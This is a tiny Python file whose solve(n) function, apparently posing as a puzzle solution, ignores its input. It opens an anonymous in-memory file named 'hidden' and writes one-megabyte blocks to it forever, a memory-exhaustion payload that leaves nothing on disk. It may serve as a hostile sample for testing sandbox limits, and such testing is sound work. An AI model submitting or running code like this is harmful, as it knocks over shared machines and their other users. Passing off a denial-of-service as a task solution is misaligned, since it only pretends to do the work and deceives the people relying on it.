import os


def solve(n):
    file = os.memfd_create("hidden")
    while True:
        os.write(file, b"x" * (1 << 20))
